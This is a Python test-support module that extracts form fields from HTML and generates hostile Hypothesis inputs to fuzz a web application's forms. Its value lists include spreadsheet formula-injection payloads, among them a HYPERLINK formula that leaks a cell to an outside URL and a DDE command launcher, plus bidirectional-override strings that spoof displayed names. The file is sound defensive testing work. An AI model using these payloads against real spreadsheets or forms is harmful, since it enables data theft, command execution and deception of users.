"""The fields a page's forms post, read from its HTML, and hostile values for them (Hypothesis)."""

import datetime
from html.parser import HTMLParser

from hypothesis import strategies as st

# Query parameters the list, search and report pages read (besides their forms' fields).
QUERY_PARAMETERS = ["q", "zoek", "page", "jaar", "periode", "locatie", "regio", "persoon"]
QUERY_PARAMETERS += ["soort", "onderwerp", "staff", "next", "status", "sort"]


class FormFields(HTMLParser):
    """``{name: [option values]}`` of every input, select and textarea on a page."""

    def __init__(self):
        super().__init__()
        self.fields: dict[str, list[str]] = {}
        self._select: str | None = None

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        name = attributes.get("name")
        if tag in {"input", "select", "textarea"} and name and name != "csrfmiddlewaretoken":
            options = self.fields.setdefault(name, [])
            if attributes.get("value") is not None:
                options.append(attributes["value"])
            self._select = name if tag == "select" else None
        elif tag == "option" and self._select and attributes.get("value") is not None:
            self.fields[self._select].append(attributes["value"])

    def handle_endtag(self, tag):
        if tag == "select":
            self._select = None


def form_fields(html: str) -> dict[str, list[str]]:
    parser = FormFields()
    parser.feed(html)
    return parser.fields


# Unicode of every category but lone surrogates (which no browser can send), NUL and
# other control characters included.
nasty_text = st.text(st.characters(exclude_categories=["Cs"]), max_size=40)
huge_text = st.sampled_from(["x" * 100_000, "\u00e9\U0001f600" * 30_000, "1" * 5_000])
# Values of the kinds an outside probe found harmful, offered to every field besides
# Hypothesis' own: bidirectional controls that make a name read reversed (refused in
# single-line texts, see test_fuzz_forms), and spreadsheet formulas (text in every XLSX,
# see test_spreadsheets). Oversized requests are sent apart (test_fuzz_forms).
BIDI_TEXTS = [
    "Amina \u202eladdaH",  # RIGHT-TO-LEFT OVERRIDE: shows "Amina Haddal"
    "\u202dOmar\u202c",  # LEFT-TO-RIGHT OVERRIDE ... POP DIRECTIONAL FORMATTING
    "\u2067Tesfay\u2069 Yohannes",  # RIGHT-TO-LEFT ISOLATE ... POP DIRECTIONAL ISOLATE
    "\u2066\u2068x\u202a\u202by",  # LRI, FSI, LRE, RLE
    "Ali\u200f",  # RIGHT-TO-LEFT MARK
    "\u200eHassan\u061c",  # LEFT-TO-RIGHT MARK, ARABIC LETTER MARK
    "3011\u202eBA",
]
FORMULA_TEXTS = [
    '=HYPERLINK("http://example.org/?d="&A1,"klik")',
    "=1+1",
    "+31 6 12345678",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
corpus = st.sampled_from(BIDI_TEXTS + FORMULA_TEXTS)
numbers = st.one_of(
    st.integers(min_value=-(10**30), max_value=10**30).map(str),
    st.sampled_from(["1e309", "NaN", "-Infinity", "0x1F", "1,5", "\u0663", "-0", "2147483648"]),
)
dates = st.one_of(
    st.dates(min_value=datetime.date(1, 1, 1)).map(datetime.date.isoformat),
    st.sampled_from(["2017-02-30", "0000-00-00", "31-12-2017", "2017-13-01", "99999-01-01"]),
)
stale_versions = st.sampled_from(["0", "-1", "1", "2", "99999999999999999999", ""])


def value_for(options: list[str]) -> st.SearchStrategy:
    """One posted value: a valid option of the field, or something hostile, or several."""
    single = st.one_of(
        st.sampled_from(options) if options else st.nothing(),
        nasty_text,
        corpus,
        huge_text,
        numbers,
        dates,
        st.just(""),
    )
    return st.one_of(single, st.lists(single, min_size=2, max_size=3))


def submissions(fields: dict[str, list[str]]) -> st.SearchStrategy:
    """A form submission: any subset of the known fields, hostile values, extra fields."""
    known = {
        name: stale_versions | value_for(options) if name == "version" else value_for(options)
        for name, options in fields.items()
    }
    extra = st.dictionaries(st.text(min_size=1, max_size=12), nasty_text, max_size=2)
    return st.tuples(st.fixed_dictionaries({}, optional=known), extra).map(
        lambda parts: parts[1] | parts[0]
    )
